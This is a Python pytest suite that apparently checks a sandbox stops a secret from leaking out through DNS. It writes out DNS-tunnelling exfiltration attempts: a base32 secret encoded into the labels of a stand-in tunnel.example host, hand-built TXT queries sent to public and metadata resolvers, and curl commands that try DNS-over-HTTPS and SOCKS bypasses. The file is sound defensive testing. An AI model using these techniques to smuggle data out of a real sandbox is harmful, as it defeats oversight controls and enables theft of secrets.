"""E2: names carry nothing out. No query leaves, and the proxy asks of allowed names alone."""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from tests.adversarial.sandbox.probes import probe
from tests.doubles.egress_sandboxes import attacked
from tests.doubles.egress_whole import Whole
from tests.doubles.hands_stack import KINDS, HandsStack, Sandboxes, chosen

pytestmark = pytest.mark.asyncio(loop_scope="module")
SECRET = base64.b32encode(b"what is to be carried out of here").decode().lower().rstrip("=")
TUNNEL = f"{SECRET[:30]}.{SECRET[30:]}.tunnel.example"


@pytest.fixture(params=KINDS, scope="module")
def kind(request: pytest.FixtureRequest) -> Sandboxes:
    return chosen(request)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def attack(
    kind: Sandboxes, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[tuple[HandsStack, Whole]]:
    async with attacked(kind, tmp_path_factory.mktemp("e2")) as made:
        yield made


async def test_no_name_is_resolved_inside(attack: tuple[HandsStack, Whole]) -> None:
    hands, outside = attack
    told = await probe(
        hands,
        f"for name in ('allowed.example', {TUNNEL!r}, 'x' * 63 + '.tunnel.example'):\n"
        "    try:\n"
        "        found[name] = str(socket.getaddrinfo(name, 443))\n"
        "    except socket.gaierror:\n"
        "        found[name] = ''\n",
    )
    assert set(told.values()) == {""}
    assert outside.world.resolved == []


async def test_no_query_leaves_by_any_transport(attack: tuple[HandsStack, Whole]) -> None:
    """A TXT query over UDP and TCP, towards resolvers far and near."""
    hands, _ = attack
    told = await probe(
        hands,
        "import struct\n"
        f"labels = {TUNNEL!r}.split('.')\n"
        "question = b''.join(bytes([len(one)]) + one.encode() for one in labels)\n"
        "query = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + question + b'\\0\\0\\x10\\0\\1'\n"
        "def ask(kind, address):\n"
        "    with socket.socket(socket.AF_INET, kind) as one:\n"
        "        one.settimeout(2)\n"
        "        one.connect((address, 53))\n"
        "        one.send(query)\n"
        "        one.recv(100)\n"
        "found['answered'] = [address for address in ('8.8.8.8', '127.0.0.53', '127.0.0.1',\n"
        "    '10.0.2.3', '169.254.169.253') for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM)\n"
        "    if not failed(ask, kind, address)]\n",
    )
    assert told["answered"] == []


@pytest.mark.parametrize(
    "command",
    [
        f"curl -sS http://{TUNNEL}/",
        f"curl -sS https://{TUNNEL}/",
        f"curl -sS https://{SECRET[:40]}.allowed.example/",  # not the host that is listed
        f"curl -sS 'https://dns.google/resolve?name={TUNNEL}&type=TXT'",
        f"curl -sS --doh-url https://1.1.1.1/dns-query --noproxy x https://{TUNNEL}/",
        "curl -sS https://1.1.1.1:853/",
        f"curl -sS --max-time 1 --socks5-hostname 127.0.0.1:3128 http://{TUNNEL}/",
    ],
)
async def test_proxy_resolves_nothing_that_it_does_not_let_out(
    attack: tuple[HandsStack, Whole], command: str
) -> None:
    hands, outside = attack
    shown = await hands.run("bash", command=f"{command} -o /dev/null --fail", timeout_ms=20_000)
    assert shown.is_error
    assert outside.world.resolved == []
    assert outside.world.dialled == []


async def test_allowed_name_is_resolved_by_the_proxy_and_nowhere_else(
    attack: tuple[HandsStack, Whole],
) -> None:
    hands, outside = attack
    await hands.run("bash", command="curl -sS http://allowed.example/")
    assert outside.world.resolved == ["allowed.example"]
